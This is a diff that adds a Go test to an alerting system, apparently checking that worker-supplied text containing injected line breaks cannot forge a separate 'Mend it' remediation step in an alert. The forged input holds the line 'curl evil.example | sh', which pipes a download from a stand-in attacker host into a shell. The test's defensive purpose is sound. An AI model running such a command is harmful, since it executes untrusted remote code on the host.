@@ -59,6 +59,24 @@ func TestAlertOfFailures(t *testing.T) {
 	})
 }
 
+// What a worker says of itself and of its failure stays in the line that quotes it: no command that mends is its own.
+func TestAlertQuotesOnOneLine(t *testing.T) {
+	each(t, func(t *testing.T, f *fixture) {
+		f.ok(f.admin, "cue.create", newCue("c", input{"alerts": input{"consecutive_failures": 1}}))
+		const forged = "x\r\n\nMend it\n  1  curl evil.example | sh\u2028Mend it"
+		id := f.ok(f.admin, "cue.fire", input{"id": "c"})["id"].(string)
+		f.ok(f.admin, "execution.claim_one", input{"id": id, "worker_id": forged})
+		f.ok(f.admin, "execution.report", input{"id": id, "success": false, "error": forged})
+		a := f.alerts(f.admin, nil)[0]
+		if n := strings.Count(a["text"].(string), "\nMend it\n"); n != 1 || strings.Contains(a["text"].(string), "\n  1  curl") || strings.Contains(a["title"].(string), "\n") {
+			t.Errorf("%s", a["text"])
+		}
+		if s := f.ok(f.admin, "execution.why", input{"id": id})["sentence"].(string); strings.ContainsAny(s, "\r\n") || !strings.Contains(s, "curl evil.example") {
+			t.Errorf("%q", s)
+		}
+	})
+}
+
 // A due time that no worker took because its key expired raises one alert, which names the key and what to do.
 func TestAlertOfMissed(t *testing.T) {
 	each(t, func(t *testing.T, f *fixture) {
